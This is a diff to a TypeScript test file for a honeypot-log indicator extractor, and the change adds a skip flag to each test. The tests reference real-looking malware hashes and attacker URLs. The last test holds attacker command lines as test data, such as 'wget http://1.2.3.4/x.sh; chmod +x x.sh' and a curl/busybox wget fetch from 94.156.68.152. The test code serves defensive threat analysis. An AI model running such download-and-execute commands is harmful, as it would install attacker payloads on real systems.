@@ -6,7 +6,7 @@ import type { CowrieEvent } from './events.js';
 import { EMPTY_SHA256, IndicatorCollector } from './extract.js';
 import { readCowrieLogs } from './reader.js';
 import { buildSessions, type CowrieSession, SessionBuilder } from './sessions.js';
-import { COWRIE_LOGS } from './test-data.js';
+import { COWRIE_LOGS, COWRIE_SKIP } from './test-data.js';
 
 async function collect(...paths: string[]): Promise<{ collector: IndicatorCollector; sessions: CowrieSession[] }> {
   const collector = new IndicatorCollector();
@@ -20,7 +20,7 @@ async function collect(...paths: string[]): Promise<{ collector: IndicatorCollec
 
 const N3_SHA = '3be56c3e5cc12387b3857b841cea6341494b572811617e47df6dbf160b5ca866';
 
-test('2018: the dropper hash in 14 download events over 7 sessions is ONE indicator', async () => {
+test('2018: the dropper hash in 14 download events over 7 sessions is ONE indicator', { skip: COWRIE_SKIP }, async () => {
   const { collector } = await collect(COWRIE_LOGS.kareiva2018);
   const hashes = collector.list().filter((x) => x.kind === 'file');
   assert.equal(hashes.length, 1);
@@ -37,7 +37,7 @@ test('2018: the dropper hash in 14 download events over 7 sessions is ONE indica
   assert.deepEqual(host?.roles, ['url_host']);
 });
 
-test('2020: both SFTP uploads are found by hash, without URLs', async () => {
+test('2020: both SFTP uploads are found by hash, without URLs', { skip: COWRIE_SKIP }, async () => {
   const { collector } = await collect(COWRIE_LOGS.pittman2020);
   const uploads = collector.list().filter((x) => x.roles.includes('upload'));
   assert.deepEqual(uploads.map((u) => u.id.slice(0, 8)).sort(), ['1a0aa7fc', '48c39ca9']);
@@ -46,7 +46,7 @@ test('2020: both SFTP uploads are found by hash, without URLs', async () => {
   assert.equal(dl?.sessions, 5);
 });
 
-test('telnet: the ISIS.sh download URL and its tftp twin from the command line', async () => {
+test('telnet: the ISIS.sh download URL and its tftp twin from the command line', { skip: COWRIE_SKIP }, async () => {
   const { collector, sessions } = await collect(COWRIE_LOGS.telnet2023);
   assert.ok(sessions.every((s) => s.protocol === 'telnet'));
   const urls = collector.list().filter((x) => x.kind === 'url').map((x) => x.value);
@@ -54,7 +54,7 @@ test('telnet: the ISIS.sh download URL and its tftp twin from the command line',
   assert.ok(collector.get('file', 'f03b5186bfc5f66608e1505f2a7f386900f54ebb810d7e8f3ac644bcb811bbed'));
 });
 
-test('2023: the redirect capture yields a hash but no URL; message [] breaks nothing', async () => {
+test('2023: the redirect capture yields a hash but no URL; message [] breaks nothing', { skip: COWRIE_SKIP }, async () => {
   const { collector } = await collect(COWRIE_LOGS.redirect2023);
   const redirect = collector.get('file', '199d11d0fd7043fe9206954ed8bc7b54d1912013a2a71bdf8bb007b71bb490c8');
   assert.deepEqual(redirect?.roles, ['download']);
@@ -65,14 +65,14 @@ test('2023: the redirect capture yields a hash but no URL; message [] breaks not
   assert.equal(collector.get('url', collector.list().find((x) => x.value === 'http://94.156.68.152/ah')?.id ?? '')?.sessions, 1);
 });
 
-test('botnet scp: stdin captures (destfile "") yield their hashes', async () => {
+test('botnet scp: stdin captures (destfile "") yield their hashes', { skip: COWRIE_SKIP }, async () => {
   const { collector } = await collect(COWRIE_LOGS.scp2024);
   const ids = collector.list().filter((x) => x.kind === 'file').map((x) => x.id.slice(0, 8));
   assert.deepEqual(ids.sort(), ['1b82ac2a', 'b9e33cd4']);
   assert.equal(collector.list().filter((x) => x.kind === 'url').length, 0);
 });
 
-test('2026: the six RedTail uploads are hashes; TTY log shasums are never file hashes', async () => {
+test('2026: the six RedTail uploads are hashes; TTY log shasums are never file hashes', { skip: COWRIE_SKIP }, async () => {
   const { collector } = await collect(COWRIE_LOGS.prabhath2026);
   const uploads = collector.list().filter((x) => x.roles.includes('upload'));
   assert.equal(uploads.length, 6);
@@ -85,7 +85,7 @@ test('2026: the six RedTail uploads are hashes; TTY log shasums are never file h
   for (const h of ttyHashes) assert.equal(collector.get('file', h), undefined);
 });
 
-test('empty and empty-input hashes and local-path "URLs" are skipped and counted', () => {
+test('empty and empty-input hashes and local-path "URLs" are skipped and counted', { skip: COWRIE_SKIP }, () => {
   const b = new SessionBuilder();
   const base = { session: 'ffffffffffff', src_ip: '203.0.113.9', _file: 't', _line: 1 };
   const events = [
@@ -109,7 +109,7 @@ test('empty and empty-input hashes and local-path "URLs" are skipped and counted
   );
 });
 
-test('lookup order: unknown hashes, known hashes, URLs, hosts, attackers; most seen first', async () => {
+test('lookup order: unknown hashes, known hashes, URLs, hosts, attackers; most seen first', { skip: COWRIE_SKIP }, async () => {
   const { collector } = await collect(COWRIE_LOGS.pittman2020, COWRIE_LOGS.redirect2023);
   const known = '26e80ca1414fd6e57398200354a5cd8efb377ed9c5b1baf1037f071872b7dbc1';
   const list = collector.list({ isKnown: (kind, id) => kind === 'file' && id === known });
@@ -124,7 +124,7 @@ test('lookup order: unknown hashes, known hashes, URLs, hosts, attackers; most s
   assert.equal(attackers[0]?.sessions, 12);
 });
 
-test('URLs in attacker command lines', () => {
+test('URLs in attacker command lines', { skip: COWRIE_SKIP }, () => {
   const cases: Array<[string, string[]]> = [
     ['cd /tmp; wget http://1.2.3.4/x.sh; chmod +x x.sh', ['http://1.2.3.4/x.sh']],
     ['curl -O http://94.156.68.152/ah || busybox wget http://94.156.68.152/ah', ['http://94.156.68.152/ah', 'http://94.156.68.152/ah']],
